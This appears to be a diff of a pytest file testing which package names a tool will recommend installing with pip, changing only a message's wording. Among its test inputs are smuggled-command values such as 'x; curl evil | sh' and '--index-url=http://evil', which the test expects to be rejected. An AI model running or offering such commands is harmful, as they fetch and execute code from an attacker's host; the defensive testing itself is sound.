@@ -98,7 +98,7 @@ def test_what_goes_wrong_is_named(
 @pytest.mark.parametrize(
     ("distribution", "said"),
     [
-        ("acme-heat", "acme-heat provides it; for prediction, pip install --no-deps acme-heat is enough."),
+        ("acme-heat", "acme-heat provides it; for prediction, pip install --no-deps acme-heat is sufficient."),
         ("x; curl evil | sh", None),  # a file says this name: nobody is told to paste it
         ("--index-url=http://evil", None),
         ("a\nb", None),
